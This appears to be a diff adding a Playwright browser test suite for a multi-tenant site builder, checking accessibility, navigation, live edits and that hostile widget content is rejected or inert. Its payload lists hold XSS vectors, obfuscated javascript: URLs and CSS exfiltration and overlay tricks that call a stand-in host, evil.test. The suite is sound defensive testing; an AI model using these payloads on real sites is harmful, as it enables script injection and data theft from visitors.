@@ -1,0 +1,186 @@
+"""The public sites in a browser: what visitors see, accessibility, and content that was written to do harm."""
+
+import re
+
+import httpx
+import pytest
+from playwright.async_api import expect
+
+from journeys.accessibility import DESKTOP, PHONE, find_violations, is_too_wide
+
+PAGES = ("", "/shop", "/about")
+
+# Each is rejected, or does nothing in a browser.
+HOSTILE_HTML = [
+    "<script>hit()</script>",
+    "<img src=x onerror=hit()>",
+    "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>",
+    "<a href='JaVaScRiPt:hit()' id=go>x</a>",
+    "<a href='&#106;avascript:hit()' id=go>x</a>",
+    "<a href='java\tscript:hit()' id=go>x</a>",
+    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
+    "<form action='javascript:hit()'><button>x</button></form>",
+    "<p data-gjs-script='hit()'>x</p>",
+    "<p style='background:url(//evil.test/a.png)'>x</p>",
+    "<p style='position:fixed;inset:0;z-index:99999'>x</p>",
+    "<img src='//evil.test/a.png'>",
+    "<link rel=stylesheet href=//evil.test/a.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.test'>",
+    "<base href=//evil.test/>",
+    "</div></div></main><p style='position:absolute;inset:0'>x</p>",
+    "<p style='margin-top:-4000px;height:9000px;background:red'>x</p>",
+    "<p style='position:absolute;top:-9000px;left:-9000px;width:30000px;height:30000px;z-index:9999'>x</p>",
+    "<p style='transform:scale(500)'>x</p>",
+    "{{ 7 * 7 }}{% include 'page.html' %}",
+    "<style>@import '//evil.test/a.css';</style>",
+    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
+    "<p id=content class=skip>x</p>",
+]
+HOSTILE_CSS = [
+    "@import url(//evil.test/a.css);",
+    "@\\69mport url(//evil.test/a.css);",
+    "p { background: url(//evil.test/a.png) }",
+    "p { background: u\\72l(//evil.test/a.png) }",
+    "p { background: image-set('//evil.test/a.png' 1x) }",
+    "@font-face { font-family: x; src: url(//evil.test/a.woff2) }",
+    "} } body { display: none } p {",
+    "</style><script>hit()</script>",
+    "p { position: fixed; inset: 0 }",
+    "p { position: absolute; inset: -9000px; z-index: 99999 }",
+    "body, html, header { display: none }",
+    "p { box-shadow: 0 0 0 9999px red }",
+    "p { outline: 9999px solid red }",
+    "input[value^=a] { background: url(//evil.test/a) }",
+    ":root { --primary: red } :root header { visibility: hidden }",
+]
+# How many of a grid of points outside of the widget's box lead to an element of it.
+COVERED = """id => {
+  const box = document.querySelector(`[data-widget="${id}"]`).getBoundingClientRect();
+  let covered = 0;
+  for (let x = 5; x < innerWidth; x += 60)
+    for (let y = 5; y < innerHeight; y += 40) {
+      const isInside = x >= box.left && x <= box.right && y >= box.top && y <= box.bottom;
+      if (!isInside && document.elementFromPoint(x, y)?.closest(`[data-widget="${id}"]`)) covered++;
+    }
+  return covered;
+}"""
+
+
+@pytest.fixture
+def site_url(souk):
+    def site_url(slug, path):
+        return souk.url.replace("localhost", f"{slug}.localhost") + path
+
+    return site_url
+
+
+@pytest.fixture
+async def visitor(chromium):
+    """A page, with what it did that it must not: dialogs, failed and outside requests, scripts."""
+    context = await chromium.new_context(viewport=DESKTOP, reduced_motion="reduce")
+    page, incidents = await context.new_page(), []
+    page.on("dialog", lambda dialog: incidents.append(f"dialog {dialog.message}"))
+    page.on("pageerror", lambda error: incidents.append(f"error {error}"))
+    page.on("request", lambda request: incidents.append(request.url) if is_outside(request.url) else None)
+    await page.add_init_script("window.hit = () => { window.wasHit = true; }")
+    yield page, incidents
+    await context.close()
+
+
+def is_outside(url):
+    return not re.match(r"(http://[a-z.]*localhost:\d+/|data:|blob:|about:)", url)
+
+
+@pytest.fixture
+async def editor(souk, get_token, ssl_context):
+    """A client of the site of Rif Market as its admin."""
+    headers = {"Authorization": f"Bearer {await get_token('admin@rif.test')}"}
+    async with httpx.AsyncClient(
+        base_url=souk.url, headers=headers, verify=ssl_context, timeout=60
+    ) as client:
+        yield client
+
+
+@pytest.mark.parametrize("slug", ["atlas", "rif"])
+@pytest.mark.parametrize("locale", ["en", "ar"])
+async def test_public_pages_are_accessible_and_fit_a_phone(visitor, site_url, slug, locale):
+    page, incidents = visitor
+    for path in PAGES:
+        await page.set_viewport_size(DESKTOP)
+        response = await page.goto(site_url(slug, f"/{locale}{path}"))
+        assert response.status == 200
+        await page.evaluate("document.fonts.ready.then(() => null)")
+        assert await find_violations(page) == []
+        await page.set_viewport_size(PHONE)
+        assert not await is_too_wide(page)
+    assert await page.locator("html").get_attribute("dir") == ("rtl" if locale == "ar" else "ltr")
+    assert incidents == []
+
+
+async def test_a_visitor_finds_the_way_and_changes_the_language(visitor, site_url):
+    page, incidents = visitor
+    await page.goto(site_url("atlas", "/"))
+    await expect(page).to_have_url(site_url("atlas", "/fr"))
+    await page.get_by_role("link", name="Voir nos services").click()
+    await expect(page.get_by_role("heading", level=1)).to_have_text("Services et tarifs")
+    await expect(page.locator(".product")).to_have_count(60)
+    await page.get_by_role("link", name="العربية").click()
+    await expect(page).to_have_url(site_url("atlas", "/ar/shop"))
+    await page.goto(site_url("atlas", "/qui-sommes-nous.html"))
+    await expect(page).to_have_url(site_url("atlas", "/en/about"))
+    assert incidents == []
+
+
+async def test_a_saved_change_shows_within_a_second(visitor, editor, site_url):
+    page, _ = visitor
+    url = site_url("rif", "/en/news")
+    created = await editor.post(
+        "/en/api/pages", json={"name": "News", "route": "/news", "content": [{"html": "<p>Before</p>"}]}
+    )
+    assert created.status_code == 201
+    await page.goto(url)
+    await expect(page.get_by_text("Before")).to_be_visible()
+    body = {"jsonSimplifiedContent": [{"html": "<p>After</p>", "css": "p { color: rgb(1, 2, 3) }"}]}
+    assert (await editor.put(f"/en/api/pages/{created.json()['id']}", json=body)).status_code == 200
+    await page.wait_for_timeout(1000)
+    await page.reload()
+    await expect(page.get_by_text("After")).to_have_css("color", "rgb(1, 2, 3)")
+    # Of one tenant's host, not of the other's.
+    assert (await page.goto(site_url("atlas", "/en/news"))).status == 404
+    assert (await editor.delete(f"/en/api/pages/{created.json()['id']}")).status_code == 200
+
+
+async def test_hostile_content_runs_nothing_calls_nowhere_and_stays_in_its_box(visitor, editor, site_url):
+    page, incidents = visitor
+    about = (await editor.get("/en/api/pages?route=/about")).json()["hydra:member"][0]
+    body = {
+        "name": "Hostile", "kind": "widget", "frontHook": "main", "page": about["@id"], "frontHookPriority": 99,
+    }  # fmt: skip
+    widget = (await editor.post("/en/api/pages", json=body)).json()
+    samples = [(html, "") for html in HOSTILE_HTML] + [("<p>x</p>", css) for css in HOSTILE_CSS]
+    stored = 0
+    for html, css in samples:
+        saved = await editor.put(
+            f"/en/api/pages/{widget['id']}", json={"jsonSimplifiedContent": [{"html": html, "css": css}]}
+        )
+        if saved.status_code == 422:
+            assert saved.json()["violations"][0]["message"].startswith("Line "), (html, css)
+            continue
+        stored += 1
+        assert saved.status_code == 200, saved.text
+        preview = (await editor.post(f"/en/api/pages/{widget['id']}/preview")).json()["path"]
+        await page.goto(site_url("rif", preview))
+        if await page.locator("#go").count():
+            await page.locator("#go").click()
+        assert not await page.evaluate("window.wasHit"), (html, css)
+        assert incidents == [], (html, css)
+        await page.evaluate("scrollTo(0, 0)")
+        assert await page.evaluate(COVERED, widget["id"]) == 0, (html, css)
+        await page.evaluate(
+            "id => document.querySelector(`[data-widget='${id}']`).scrollIntoView()", widget["id"]
+        )
+        assert await page.evaluate(COVERED, widget["id"]) == 0, (html, css)
+        await expect(page.locator("header.site-header")).to_be_visible()
+    assert 0 < stored < len(samples)
+    assert (await editor.delete(f"/en/api/pages/{widget['id']}")).status_code == 200
